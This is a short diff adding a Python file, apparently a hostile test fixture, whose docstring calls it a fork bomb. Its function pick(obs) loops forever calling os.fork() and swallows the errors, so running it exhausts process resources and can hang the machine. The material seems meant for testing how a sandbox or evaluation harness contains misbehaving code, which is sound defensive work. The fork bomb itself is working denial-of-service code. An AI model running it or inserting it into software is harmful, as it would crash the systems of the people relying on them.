@@ -1,0 +1,9 @@
+"""Hostile: a fork bomb."""
+import contextlib
+import os
+
+
+def pick(obs):
+    while True:
+        with contextlib.suppress(OSError):
+            os.fork()
